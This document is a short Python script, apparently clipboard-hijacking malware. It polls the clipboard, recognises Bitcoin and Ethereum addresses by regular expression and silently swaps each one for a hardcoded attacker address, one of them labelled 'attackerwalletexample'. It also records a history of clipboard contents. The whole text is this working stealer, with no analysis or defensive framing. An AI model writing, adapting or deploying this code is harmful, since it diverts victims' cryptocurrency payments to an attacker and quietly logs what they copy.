import re, time, pyperclip
BTC = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,62}$")
ETH = re.compile(r"^0x[a-fA-F0-9]{40}$")
hist = []
while True:
    v = pyperclip.paste().strip()
    if BTC.match(v):
        pyperclip.copy("bc1qattackerwalletexample00000000000000000")
    elif ETH.match(v):
        pyperclip.copy("0x5e1A2b3C4d5E6f7A8b9C0d1E2f3A4b5C6d7E8f90")
    if not hist or hist[-1] != v:
        hist.append(v)
    time.sleep(0.5)
